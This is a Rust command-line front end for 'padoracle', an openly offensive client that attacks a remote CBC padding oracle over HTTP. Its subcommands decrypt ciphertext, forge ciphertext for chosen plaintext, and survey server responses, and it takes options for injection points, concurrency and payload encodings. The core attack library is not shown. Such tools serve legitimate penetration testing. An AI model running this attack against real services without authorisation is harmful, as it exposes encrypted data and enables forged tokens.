// padoracle: attack a remote CBC padding oracle from the command line.

use std::io::IsTerminal;
use std::sync::Arc;
use std::time::Duration;

use anyhow::{bail, Context, Result};
use base64::engine::general_purpose::STANDARD as BASE64;
use base64::Engine;
use clap::{Args, Parser, Subcommand};

use padoracle::{
    analyze_responses, decrypt, encrypt, to_printable, AnalysisOptions, ByteAttempt, CacheStore,
    DecryptOptions, EncryptOptions, FileCache, HeadersArg, OracleResult, PayloadEncoding,
    PayloadTransform, ProgressSink, RequestOptions, DEFAULT_CACHE_PATH, DEFAULT_CONCURRENCY,
};

#[derive(Parser)]
#[command(
    name = "padoracle",
    version,
    about = "CBC padding oracle attack client",
    propagate_version = true
)]
struct Cli {
    #[command(subcommand)]
    command: Commands,
}

#[derive(Subcommand)]
enum Commands {
    /// Find the plaintext for the given ciphertext
    Decrypt {
        /// URL to attack; include {POPAYLOAD} in the URL, a header or the
        /// body to mark a custom injection point
        url: String,
        /// Ciphertext, as hex:<hex> or b64:/base64:<base64>
        ciphertext: String,
        /// Block size used by the server's cipher
        block_size: usize,
        /// Decryption-failure signal: a status code, or a string present
        /// in the response body when decryption fails
        error: String,
        /// Trailing plaintext bytes already known, as hex:/b64:/utf8:
        #[arg(long)]
        already_found: Option<String>,
        /// Process blocks first-to-last instead of last-to-first
        #[arg(long, alias = "start-from-1st-block")]
        start_from_first_block: bool,
        #[command(flatten)]
        common: CommonArgs,
    },
    /// Forge a ciphertext for the given plaintext
    Encrypt {
        /// URL to attack; include {POPAYLOAD} to mark a custom injection
        /// point
        url: String,
        /// Plaintext, plain or hex:/b64:/utf8: prefixed
        plaintext: String,
        /// Block size used by the server's cipher
        block_size: usize,
        /// Decryption-failure signal, as for decrypt
        error: String,
        /// Known final ciphertext block, hex:/b64: prefixed
        #[arg(long)]
        last_ciphertext_block: Option<String>,
        #[command(flatten)]
        common: CommonArgs,
    },
    /// Survey how oracle responses differ across one block of byte values,
    /// to help pick the <error> signal
    Analyze {
        /// URL to probe
        url: String,
        /// Block size used by the server's cipher
        #[arg(default_value_t = 16)]
        block_size: usize,
        /// Keep response bodies out of the temp directory
        #[arg(long)]
        no_save_responses: bool,
        #[command(flatten)]
        common: CommonArgs,
    },
}

#[derive(Args)]
struct CommonArgs {
    /// Requests to keep in flight concurrently
    #[arg(short, long, default_value_t = DEFAULT_CONCURRENCY)]
    concurrency: usize,
    /// HTTP method for oracle requests
    #[arg(short = 'X', long, default_value = "GET")]
    method: String,
    /// Header to send, as 'Name: value'; repeatable
    #[arg(short = 'H', long = "header")]
    headers: Vec<String>,
    /// Request body; remember to set the Content-Type header
    #[arg(short, long)]
    data: Option<String>,
    /// Payload encoding: hex, hex-uppercase, base64, base64-urlsafe,
    /// base64(xyz) with substitutes for '+/='
    #[arg(short = 'e', long, default_value = "hex")]
    payload_encoding: String,
    /// Leave the encoded payload percent-unencoded
    #[arg(long)]
    dont_urlencode_payload: bool,
    /// Skip the on-disk response cache
    #[arg(long)]
    disable_cache: bool,
    /// Response cache location
    #[arg(long, default_value = DEFAULT_CACHE_PATH)]
    cache_file: String,
    /// Per-request timeout in seconds
    #[arg(long, default_value_t = 30)]
    timeout: u64,
    /// Transport-level retries per request
    #[arg(long, default_value_t = 2)]
    retries: u32,
}

#[tokio::main]
async fn main() -> Result<()> {
    tracing_subscriber::fmt()
        .with_env_filter(tracing_subscriber::EnvFilter::from_default_env())
        .with_writer(std::io::stderr)
        .init();

    match Cli::parse().command {
        Commands::Decrypt {
            url,
            ciphertext,
            block_size,
            error,
            already_found,
            start_from_first_block,
            common,
        } => {
            run_decrypt(
                url,
                ciphertext,
                block_size,
                error,
                already_found,
                start_from_first_block,
                common,
            )
            .await
        }
        Commands::Encrypt {
            url,
            plaintext,
            block_size,
            error,
            last_ciphertext_block,
            common,
        } => run_encrypt(url, plaintext, block_size, error, last_ciphertext_block, common).await,
        Commands::Analyze {
            url,
            block_size,
            no_save_responses,
            common,
        } => run_analyze(url, block_size, no_save_responses, common).await,
    }
}

async fn run_decrypt(
    url: String,
    ciphertext: String,
    block_size: usize,
    error: String,
    already_found: Option<String>,
    start_from_first_block: bool,
    common: CommonArgs,
) -> Result<()> {
    validate_common(&url, block_size, &common)?;
    let ciphertext = parse_bytes(&ciphertext, false)?;
    let already_found = already_found
        .map(|input| parse_bytes(&input, true))
        .transpose()?;
    let predicate = build_predicate(&error)?;
    let (file_cache, cache) = open_cache(&common);
    let progress = TerminalProgress::new();

    println!("~~~DECRYPTING~~~");
    println!(
        "total bytes: {} | blocks: {}",
        ciphertext.len(),
        (ciphertext.len() / block_size).saturating_sub(1)
    );

    let mut options = DecryptOptions::new(&url, block_size, &ciphertext, &*predicate);
    options.concurrency = common.concurrency;
    options.request = request_options(&common);
    options.transform = build_transform(&common);
    options.cache = cache;
    options.progress = &progress;
    options.start_from_first_block = start_from_first_block;
    options.already_found = already_found.as_deref();
    let outcome = decrypt(options).await?;
    progress.done();

    println!();
    println!("-- plaintext printable bytes in utf8 --");
    println!(
        "{}",
        to_printable(&String::from_utf8_lossy(&outcome.found_bytes))
    );
    println!();
    println!("-- plaintext bytes in hex --");
    println!("{}", hex::encode(&outcome.found_bytes));
    println!();
    println!("-- intermediate bytes in hex --");
    println!("{}", hex::encode(&outcome.inter_bytes));

    persist(file_cache)
}

async fn run_encrypt(
    url: String,
    plaintext: String,
    block_size: usize,
    error: String,
    last_ciphertext_block: Option<String>,
    common: CommonArgs,
) -> Result<()> {
    validate_common(&url, block_size, &common)?;
    let plaintext = parse_bytes(&plaintext, true)?;
    let last_block = last_ciphertext_block
        .map(|input| parse_bytes(&input, false))
        .transpose()?;
    let predicate = build_predicate(&error)?;
    let (file_cache, cache) = open_cache(&common);
    let progress = TerminalProgress::new();

    println!("~~~ENCRYPTING~~~");

    let mut options = EncryptOptions::new(&url, block_size, &plaintext, &*predicate);
    options.concurrency = common.concurrency;
    options.request = request_options(&common);
    options.transform = build_transform(&common);
    options.cache = cache;
    options.progress = &progress;
    options.last_ciphertext_block = last_block.as_deref();
    let outcome = encrypt(options).await?;
    progress.done();

    println!();
    println!("-- ciphertext bytes in hex --");
    println!("{}", hex::encode(&outcome.found_bytes));
    println!();
    println!("-- intermediate bytes in hex --");
    println!("{}", hex::encode(&outcome.inter_bytes));
    if let Some(final_request) = &outcome.final_request {
        println!();
        println!("-- final http request --");
        print_request(final_request, true);
    }

    persist(file_cache)
}

async fn run_analyze(
    url: String,
    block_size: usize,
    no_save_responses: bool,
    common: CommonArgs,
) -> Result<()> {
    validate_common(&url, block_size, &common)?;
    let (file_cache, cache) = open_cache(&common);

    println!("~~~ANALYZING~~~");

    let mut options = AnalysisOptions::new(&url, block_size);
    options.concurrency = common.concurrency;
    options.request = request_options(&common);
    options.transform = build_transform(&common);
    options.cache = cache;
    options.save_responses = !no_save_responses;
    let report = analyze_responses(options).await?;

    let mut rows: Vec<(u8, u16, usize)> = report
        .responses
        .iter()
        .map(|(byte, result)| (*byte, result.status_code, result.body.len()))
        .collect();
    rows.sort_by_key(|&(byte, status, length)| (status, length, byte));
    println!();
    println!("{:>4} {:>6} {:>8}", "byte", "code", "length");
    for (byte, status, length) in rows {
        println!("{byte:>4} {status:>6} {length:>8}");
    }
    println!();
    println!("-- status code frequencies --");
    for (code, count) in &report.status_code_freq {
        println!("{code}: {count}");
    }
    println!();
    println!("-- body length frequencies --");
    for (length, count) in &report.body_length_freq {
        println!("{length}: {count}");
    }
    println!();
    println!(
        "{} requests | {} up | {} down",
        report.network.requests,
        human_bytes(report.network.bytes_up),
        human_bytes(report.network.bytes_down)
    );
    if let Some(dir) = &report.output_dir {
        println!("responses saved to {}", dir.display());
    }

    persist(file_cache)
}

fn validate_common(url: &str, block_size: usize, common: &CommonArgs) -> Result<()> {
    if !url.starts_with("http://") && !url.starts_with("https://") {
        bail!("invalid <url> argument: must start with http:// or https://");
    }
    if block_size == 0 {
        bail!("invalid <block_size> argument: must be positive");
    }
    if common.data.is_some()
        && !common
            .headers
            .iter()
            .any(|header| header.to_lowercase().starts_with("content-type:"))
    {
        eprintln!(
            "warning: --data is present without a Content-Type header; consider \
             application/x-www-form-urlencoded or application/json"
        );
    }
    Ok(())
}

/// Decode `hex:`/`b64:`/`base64:`/`utf8:` prefixed input; bare input is
/// treated as utf8 only where plaintext makes sense.
fn parse_bytes(input: &str, allow_plain: bool) -> Result<Vec<u8>> {
    let strip_spaces = |s: &str| s.chars().filter(|c| !c.is_whitespace()).collect::<String>();
    if let Some(rest) = input.strip_prefix("hex:") {
        return hex::decode(strip_spaces(rest)).context("invalid hex input");
    }
    if let Some(rest) = input
        .strip_prefix("base64:")
        .or_else(|| input.strip_prefix("b64:"))
    {
        return BASE64
            .decode(strip_spaces(rest))
            .context("invalid base64 input");
    }
    if let Some(rest) = input.strip_prefix("utf8:") {
        return Ok(rest.as_bytes().to_vec());
    }
    if allow_plain {
        return Ok(input.as_bytes().to_vec());
    }
    bail!("input should start with hex: or base64:/b64:");
}

fn build_predicate(error: &str) -> Result<Box<dyn Fn(&OracleResult) -> bool + Send + Sync>> {
    if let Ok(code) = error.parse::<u16>() {
        if !(100..=599).contains(&code) {
            bail!("invalid <error> argument: {code} is not a valid status code");
        }
        Ok(Box::new(move |result: &OracleResult| {
            result.status_code != code
        }))
    } else {
        let needle = error.to_string();
        Ok(Box::new(move |result: &OracleResult| {
            !result.body.contains(&needle)
        }))
    }
}

fn build_transform(common: &CommonArgs) -> PayloadTransform {
    let encoding = match common.payload_encoding.parse::<PayloadEncoding>() {
        Ok(encoding) => encoding,
        Err(_) => {
            eprintln!(
                "warning: {:?} is an unrecognized payload encoding, defaulting to hex",
                common.payload_encoding
            );
            PayloadEncoding::Hex
        }
    };
    let transform = PayloadTransform::new(encoding);
    if common.dont_urlencode_payload {
        transform.without_urlencode()
    } else {
        transform
    }
}

fn request_options(common: &CommonArgs) -> RequestOptions {
    RequestOptions {
        method: Some(common.method.clone()),
        headers: (!common.headers.is_empty()).then(|| HeadersArg::Lines(common.headers.clone())),
        body: common.data.clone(),
        timeout: Some(Duration::from_secs(common.timeout)),
        retries: Some(common.retries),
    }
}

fn open_cache(common: &CommonArgs) -> (Option<Arc<FileCache>>, Option<Arc<dyn CacheStore>>) {
    if common.disable_cache {
        return (None, None);
    }
    let cache = Arc::new(FileCache::open(&common.cache_file));
    (Some(cache.clone()), Some(cache as Arc<dyn CacheStore>))
}

fn persist(file_cache: Option<Arc<FileCache>>) -> Result<()> {
    if let Some(cache) = file_cache {
        cache.persist().context("persisting the response cache")?;
    }
    Ok(())
}

fn print_request(result: &OracleResult, include_body: bool) {
    println!("{} {}", result.status_code, result.url);
    for (name, value) in &result.headers {
        println!("{name}: {value}");
    }
    if include_body {
        println!();
        println!("{}", result.body);
    }
}

/// Line-rewriting progress view: the working buffer in hex with the probe
/// position highlighted, plus network counters. Active on TTYs only.
struct TerminalProgress {
    enabled: bool,
}

impl TerminalProgress {
    fn new() -> Self {
        Self {
            enabled: std::io::stderr().is_terminal(),
        }
    }

    fn done(&self) {
        if self.enabled {
            eprintln!();
        }
    }
}

impl ProgressSink for TerminalProgress {
    fn attempt(&self, attempt: &ByteAttempt<'_>) {
        if !self.enabled {
            return;
        }
        let hex = hex::encode(attempt.working);
        let split = 2 * attempt.offset;
        let color = if attempt.success { "\x1b[32m" } else { "\x1b[33m" };
        let percent = 100.0 * (attempt.found_count + attempt.block_size) as f64
            / attempt.working.len() as f64;
        eprint!(
            "\r\x1b[2K\x1b[90m{}\x1b[0m{}{:02x}\x1b[0m\x1b[32m{}\x1b[0m {:5.1}% {:>3}/256 \
             | {} reqs | last {} ms | {} up | {} down",
            &hex[..split],
            color,
            attempt.candidate,
            &hex[split + 2..],
            percent,
            attempt.candidate,
            attempt.stats.requests,
            attempt.stats.last_request_ms,
            human_bytes(attempt.stats.bytes_up),
            human_bytes(attempt.stats.bytes_down),
        );
    }

    fn warning(&self, message: &str) {
        if self.enabled {
            eprintln!();
        }
        eprintln!("\x1b[33mwarning\x1b[0m: {message}");
    }
}

fn human_bytes(n: u64) -> String {
    if n < 1024 {
        format!("{n} B")
    } else if n < 1024 * 1024 {
        format!("{:.1} kB", n as f64 / 1024.0)
    } else {
        format!("{:.1} MB", n as f64 / (1024.0 * 1024.0))
    }
}
